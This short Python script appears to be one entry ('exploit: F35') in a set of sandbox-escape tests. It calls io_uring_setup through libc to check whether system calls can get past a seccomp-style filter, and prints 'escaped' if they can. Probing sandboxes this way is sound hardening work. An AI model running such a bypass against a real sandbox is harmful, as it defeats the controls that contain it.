"""Makes system calls through io_uring, where no filter sees them.

exploit: F35
layer: the system call filter
kept: a kernel may have io_uring switched off
"""

import ctypes
import platform

LIBC = ctypes.CDLL(None, use_errno=True)


def call(x86: int, arm: int, *words: object) -> int:
    number = x86 if platform.machine() == "x86_64" else arm
    return int(
        LIBC.syscall(ctypes.c_long(number), *(ctypes.c_long(w) if isinstance(w, int) else w for w in words))
    )


parameters = ctypes.create_string_buffer(120)
if call(425, 425, 1, parameters) >= 0:
    print("escaped")
